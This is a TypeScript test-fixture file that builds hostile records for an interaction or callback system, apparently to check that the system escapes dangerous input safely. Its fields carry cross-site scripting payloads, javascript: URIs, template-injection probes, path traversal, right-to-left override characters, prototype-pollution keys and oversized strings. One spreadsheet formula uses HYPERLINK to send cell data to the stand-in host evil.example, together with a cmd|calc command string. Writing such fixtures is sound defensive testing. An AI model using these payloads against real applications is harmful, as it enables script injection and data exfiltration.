import { randomUUID } from 'node:crypto';

const RIGHT_TO_LEFT = '\u202e';
const SCRIPT = '<script>window.ran = true</script>';
const FORMULA = '=HYPERLINK("https://evil.example/"&A1,"+cmd|calc")';
const IMAGE = '"><img src="https://evil.example/x.png" onerror="window.ran = true">';

/** A record in which every text tries something: markup, addresses that run, characters that turn the line round. */
export function hostileFields(): Record<string, unknown> {
  const id = randomUUID();
  return {
    interaction_id: `${id}${SCRIPT}`,
    customer_id: `${IMAGE}${id}`,
    customer_number: `+49 30 901820 ${RIGHT_TO_LEFT}${IMAGE}`,
    subject: `${SCRIPT}${IMAGE}${RIGHT_TO_LEFT}evil\u0007`,
    text: `${SCRIPT}\n${IMAGE}\n\${7*7} {{7*7}} javascript:alert(1)\u2028`,
    desired_response_type: 'Voice',
    type: `outbound${IMAGE}`,
    sub_type: SCRIPT,
    media_type: SCRIPT,
    dn: IMAGE,
    location: `javascript:alert(1)${RIGHT_TO_LEFT}`,
    callback_server_id: SCRIPT,
    external_id: IMAGE,
    parent_id: `../../${SCRIPT}`,
    thread_id: `${id}${IMAGE}`,
    category_id: SCRIPT,
    stopped_reason: `${SCRIPT}${RIGHT_TO_LEFT}`,
    structured_text: 'java\tscript:window.ran=true',
    structured_text_mime: `text/html${SCRIPT}`,
    binary_content: '\u0001javascript:window.ran=true',
    binary_content_mime: IMAGE,
    binary_content_size: 3,
    end_time: new Date(Date.now() + 3_600_000).toISOString(),
    call_result: 9999,
    callback_type: 77,
    udata: JSON.parse(
      JSON.stringify({
        [SCRIPT]: IMAGE,
        [`key${RIGHT_TO_LEFT}`]: `value${RIGHT_TO_LEFT}\u001b`,
        nested: { deeper: [{ [IMAGE]: [SCRIPT, null, true, 1.5] }, [], {}] },
        long: `${SCRIPT} `.repeat(40),
        many: Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`k${index}`, IMAGE])),
        formula: FORMULA,
        '': '',
      }).replace('{', '{"__proto__":{"ran":true},'),
    ),
    [`unknown${SCRIPT}${RIGHT_TO_LEFT}`]: IMAGE,
  };
}

const UNBROKEN = 'W'.repeat(100_000);

/** A record of texts without a space after a formula: 100,000 characters where texts are drawn in a way of their own. */
export function hugeFields(): Record<string, unknown> {
  const id = randomUUID();
  const huge = `${FORMULA}</script><!--${UNBROKEN}`;
  const long = huge.slice(0, 5000);
  return {
    interaction_id: `huge-${id}-${UNBROKEN.slice(0, 900)}`,
    customer_id: `huge-${id}-${huge}`,
    customer_number: `+${huge}`,
    desired_response_type: long,
    subject: huge,
    text: huge,
    type: long,
    sub_type: long,
    media_type: long,
    dn: long,
    location: long,
    callback_server_id: long,
    external_id: long,
    parent_id: long,
    thread_id: long,
    category_id: long,
    stopped_reason: `${RIGHT_TO_LEFT}\u0007`.repeat(50_000),
    structured_text: `https://${'content.'.repeat(20)}example/${UNBROKEN}`,
    structured_text_mime: long,
    binary_content: huge,
    binary_content_mime: `audio/${long}`,
    binary_content_size: Number.MAX_SAFE_INTEGER,
    attempts: Number.MAX_SAFE_INTEGER,
    owner_id: Number.MIN_SAFE_INTEGER,
    udata: { [UNBROKEN]: huge, [FORMULA]: { [long]: [long, [[[[[[[[[['deep']]]]]]]]]]] } },
    [UNBROKEN]: long,
  };
}

/** A record with nothing set but what must be. */
export const MINIMAL = {
  callback_status: null,
  type: 'outbound',
  media_type: 'callback',
};
